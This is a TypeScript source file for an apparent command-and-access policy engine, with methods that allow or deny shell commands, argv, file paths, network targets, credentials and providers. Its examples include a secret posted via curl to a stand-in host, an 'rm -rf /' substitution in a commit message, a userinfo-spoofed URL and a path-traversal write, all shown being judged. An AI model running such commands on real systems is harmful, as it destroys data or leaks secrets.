import type { Allowed, Decision, Trace } from "./decision.js";
import { EngineCore, check, enforce, explain, open } from "./engine-core.js";
import type { MlldSecurityError } from "./errors.js";
import { crossing } from "./internal/arguments.js";
import { commandLine } from "./internal/labels.js";
import { call, said } from "./internal/runtime.js";
import type { Handle } from "./internal/wasm.js";
import type { CommandPlan } from "./plan.js";
import type { CommandCheckOptions, CommandOptions, FileIntegrityOptions, KeychainOptions } from "./policy.js";

/** The methods of an engine that decide over operations: commands, files, the network, credentials. */
export abstract class OperationChecks extends EngineCore {
  /**
   * Decides over a command line, to be run as `execFile("bash", ["--norc", "-c", text], { env })`.
   *
   * Without `--norc` bash may run `~/.bashrc` first, and with `BASH_ENV` in its environment the file that it names: pass
   * an `env` of your own.
   *
   * Node's `exec` runs `/bin/sh` instead, which reads some texts otherwise: say `{ shell: "sh" }` for it.
   *
   * With `inputs`, what is known of the values that were put into the text is held against everything that they may flow
   * into there: the program in whose words one stands, and all that does not end before. A value without a `span`, or whose
   * span splits a character, may flow into any of them.
   *
   * @throws {TypeError} if `text` is no well-formed string, an input no descriptor, or a span not within the text
   *
   * @example
   * ```ts
   * import { PolicyEngine } from "mlld-policy";
   *
   * using engine = new PolicyEngine({ deny: ["cmd:git:push:*"] });
   * const decision = engine.checkCommand("git push origin main");
   * if (decision.decision === "deny") console.log(decision.rule); // deny[0]
   *
   * using careful = new PolicyEngine({ labels: { secret: { deny: ["net:w"] } } });
   * const inputs = [{ labels: ["secret"], span: { start: 8, end: 15 } }];
   * console.log(careful.checkCommand("curl -d hunter2 https://x.example/", { inputs }).decision); // deny
   * ```
   */
  checkCommand(text: string, options?: CommandCheckOptions): Decision {
    return check(this, checkingCommand("checkCommand", text, options));
  }

  /** Like {@link checkCommand}, but throws a {@link MlldSecurityError} where that denies. */
  enforceCommand(text: string, options?: CommandCheckOptions): Allowed {
    return enforce(this, checkingCommand("enforceCommand", text, options));
  }

  /** Like {@link checkCommand}, with every rule that was considered. */
  explainCommand(text: string, options?: CommandCheckOptions): Trace {
    const { line, shell, inputs } = commandLine("explainCommand", text, options);
    if (inputs === undefined) return explain(this, (handle) => handle.explainCommand(line, shell));
    return explain(this, (handle) => handle.explainCommandWith(line, shell, inputs));
  }

  /**
   * What a command line would run, which is what {@link checkCommand} decides over: programs, files, hosts, assignments,
   * and the parts that cannot be seen through.
   *
   * The policies say nothing here; of the engine's options, `base` and `home` are used.
   *
   * @throws {TypeError} if `text` is no well-formed string
   * @throws {MlldSecurityError} if the module failed: no plan is given where none was made
   *
   * @example
   * ```ts
   * import { PolicyEngine } from "mlld-policy";
   *
   * using engine = new PolicyEngine({}, { home: "/work/u" });
   * const [file] = engine.analyzeCommand("sort names > ~/sorted").files.filter(({ access }) => access === "write");
   * console.log(file?.path.text); // /work/u/sorted
   * ```
   */
  analyzeCommand(text: string, options?: CommandOptions): CommandPlan {
    const args = crossing.Command("analyzeCommand", text, options);
    const handle = open(this);
    return call(() => said(handle.analyzeCommand(...args)));
  }

  /**
   * Decides over one program started without a shell, as `execFile(argv[0], argv.slice(1))` does: nothing is expanded.
   *
   * An empty list starts nothing that could be allowed, and is denied.
   *
   * @throws {TypeError} if `argv` is no array of well-formed strings
   *
   * @example
   * ```ts
   * import { PolicyEngine } from "mlld-policy";
   *
   * using engine = new PolicyEngine({ allow: ["cmd:git:commit:*"] });
   * console.log(engine.checkArgv(["git", "commit", "-m", "$(rm -rf /)"]).decision); // allow: that is only a message
   * ```
   */
  checkArgv(argv: readonly string[]): Decision {
    const args = crossing.Argv("checkArgv", argv);
    return check(this, (handle) => handle.checkArgv(...args));
  }

  /** Like {@link checkArgv}, but throws a {@link MlldSecurityError} where that denies. */
  enforceArgv(argv: readonly string[]): Allowed {
    const args = crossing.Argv("enforceArgv", argv);
    return enforce(this, (handle) => handle.checkArgv(...args));
  }

  /** Like {@link checkArgv}, with every rule that was considered. */
  explainArgv(argv: readonly string[]): Trace {
    const args = crossing.Argv("explainArgv", argv);
    return explain(this, (handle) => handle.explainArgv(...args));
  }

  /**
   * Decides over reading or writing a file. A relative path starts from the `base` folder.
   *
   * The engine sees no symbolic links; give it a `realPath` callback where they matter.
   *
   * @throws {TypeError} if `mode` is neither `"read"` nor `"write"`, or `path` is no well-formed string
   *
   * @example
   * ```ts
   * import { PolicyEngine } from "mlld-policy";
   *
   * using engine = new PolicyEngine({ allow: ["fs:w:dist/**"] }, { base: "/work/project" });
   * console.log(engine.checkFile("write", "dist/app.js").decision); // allow
   * console.log(engine.checkFile("write", "dist/../package.json").decision); // deny
   * ```
   */
  checkFile(mode: "read" | "write", path: string): Decision {
    const args = crossing.File("checkFile", mode, path);
    return check(this, (handle) => handle.checkFile(...args));
  }

  /** Like {@link checkFile}, but throws a {@link MlldSecurityError} where that denies. */
  enforceFile(mode: "read" | "write", path: string): Allowed {
    const args = crossing.File("enforceFile", mode, path);
    return enforce(this, (handle) => handle.checkFile(...args));
  }

  /** Like {@link checkFile}, with every rule that was considered. */
  explainFile(mode: "read" | "write", path: string): Trace {
    const args = crossing.File("explainFile", mode, path);
    return explain(this, (handle) => handle.explainFile(...args));
  }

  /**
   * Decides over changing a file that `filesystem_integrity` protects: every matching entry must permit it.
   *
   * Without an identity nobody is authorised where an entry names identities.
   *
   * @throws {TypeError} if `path` or the identity is no well-formed string
   *
   * @example
   * ```ts
   * import { PolicyEngine } from "mlld-policy";
   *
   * const policy = { filesystem_integrity: { "@base/audit/**": { mutable: false } } };
   * using engine = new PolicyEngine(policy, { base: "/work/project" });
   * console.log(engine.checkFileIntegrity("audit/log.txt", { identity: "user:alice" }).decision); // deny
   * ```
   */
  checkFileIntegrity(path: string, options?: FileIntegrityOptions): Decision {
    const args = crossing.FileIntegrity("checkFileIntegrity", path, options);
    return check(this, (handle) => handle.checkFileIntegrity(...args));
  }

  /** Like {@link checkFileIntegrity}, but throws a {@link MlldSecurityError} where that denies. */
  enforceFileIntegrity(path: string, options?: FileIntegrityOptions): Allowed {
    const args = crossing.FileIntegrity("enforceFileIntegrity", path, options);
    return enforce(this, (handle) => handle.checkFileIntegrity(...args));
  }

  /** Like {@link checkFileIntegrity}, with every rule that was considered. */
  explainFileIntegrity(path: string, options?: FileIntegrityOptions): Trace {
    const args = crossing.FileIntegrity("explainFileIntegrity", path, options);
    return explain(this, (handle) => handle.explainFileIntegrity(...args));
  }

  /**
   * Decides over reaching a network target: a URL, a host, or a host with a port. What does not parse is denied.
   *
   * @throws {TypeError} if `target` is no well-formed string
   *
   * @example
   * ```ts
   * import { PolicyEngine } from "mlld-policy";
   *
   * using engine = new PolicyEngine({ allow: ["net:*.github.com"] });
   * console.log(engine.checkNetwork("https://api.github.com/repos").decision); // allow
   * console.log(engine.checkNetwork("https://api.github.com@example.com/").decision); // deny
   * ```
   */
  checkNetwork(target: string): Decision {
    const args = crossing.Network("checkNetwork", target);
    return check(this, (handle) => handle.checkNetwork(...args));
  }

  /** Like {@link checkNetwork}, but throws a {@link MlldSecurityError} where that denies. */
  enforceNetwork(target: string): Allowed {
    const args = crossing.Network("enforceNetwork", target);
    return enforce(this, (handle) => handle.checkNetwork(...args));
  }

  /** Like {@link checkNetwork}, with every rule that was considered. */
  explainNetwork(target: string): Trace {
    const args = crossing.Network("explainNetwork", target);
    return explain(this, (handle) => handle.explainNetwork(...args));
  }

  /**
   * Decides over a capability as a whole, such as `sh`, `js` or one that the `capabilities` option registers.
   *
   * @throws {TypeError} if `name` is no string, or names no capability: a misspelt name must not look allowed
   *
   * @example
   * ```ts
   * import { PolicyEngine } from "mlld-policy";
   *
   * using engine = new PolicyEngine({ deny: ["sh"] });
   * console.log(engine.checkCapability("sh").decision); // deny
   * ```
   */
  checkCapability(name: string): Decision {
    const args = crossing.Capability("checkCapability", name);
    return check(this, (handle) => handle.checkCapability(...args));
  }

  /** Like {@link checkCapability}, but throws a {@link MlldSecurityError} where that denies. */
  enforceCapability(name: string): Allowed {
    const args = crossing.Capability("enforceCapability", name);
    return enforce(this, (handle) => handle.checkCapability(...args));
  }

  /** Like {@link checkCapability}, with every rule that was considered. */
  explainCapability(name: string): Trace {
    const args = crossing.Capability("explainCapability", name);
    return explain(this, (handle) => handle.explainCapability(...args));
  }

  /**
   * Decides over reading a credential. Besides `keychain` rules, every layer must opt in to `@keychain` in `danger`.
   *
   * @throws {TypeError} if `service`, `account` or the project's name is no well-formed string
   *
   * @example
   * ```ts
   * import { PolicyEngine } from "mlld-policy";
   *
   * const policy = { danger: ["@keychain"], keychain: { allow: ["mlld-box-{projectname}/*"] } };
   * using engine = new PolicyEngine(policy);
   * console.log(engine.checkKeychain("mlld-box-acme", "claude", { projectName: "acme" }).decision); // allow
   * ```
   */
  checkKeychain(service: string, account: string, options?: KeychainOptions): Decision {
    const args = crossing.Keychain("checkKeychain", service, account, options);
    return check(this, (handle) => handle.checkKeychain(...args));
  }

  /** Like {@link checkKeychain}, but throws a {@link MlldSecurityError} where that denies. */
  enforceKeychain(service: string, account: string, options?: KeychainOptions): Allowed {
    const args = crossing.Keychain("enforceKeychain", service, account, options);
    return enforce(this, (handle) => handle.checkKeychain(...args));
  }

  /** Like {@link checkKeychain}, with every rule that was considered. */
  explainKeychain(service: string, account: string, options?: KeychainOptions): Trace {
    const args = crossing.Keychain("explainKeychain", service, account, options);
    return explain(this, (handle) => handle.explainKeychain(...args));
  }

  /**
   * Decides over an execution environment, by the reference that `env.providers` uses.
   *
   * @throws {TypeError} if `reference` is no well-formed string
   *
   * @example
   * ```ts
   * import { PolicyEngine } from "mlld-policy";
   *
   * using engine = new PolicyEngine({ env: { providers: { "@mlld/env-docker": { allowed: false } } } });
   * console.log(engine.checkProvider("@mlld/env-docker").decision); // deny
   * ```
   */
  checkProvider(reference: string): Decision {
    const args = crossing.Provider("checkProvider", reference);
    return check(this, (handle) => handle.checkProvider(...args));
  }

  /** Like {@link checkProvider}, but throws a {@link MlldSecurityError} where that denies. */
  enforceProvider(reference: string): Allowed {
    const args = crossing.Provider("enforceProvider", reference);
    return enforce(this, (handle) => handle.checkProvider(...args));
  }

  /** Like {@link checkProvider}, with every rule that was considered. */
  explainProvider(reference: string): Trace {
    const args = crossing.Provider("explainProvider", reference);
    return explain(this, (handle) => handle.explainProvider(...args));
  }
}

/** Without `inputs` nothing crosses but the text. */
function checkingCommand(caller: string, text: unknown, options: unknown): (handle: Handle) => number {
  const { line, shell, inputs } = commandLine(caller, text, options);
  if (inputs === undefined) return (handle) => handle.checkCommand(line, shell);
  return (handle) => handle.checkCommandWith(line, shell, inputs);
}
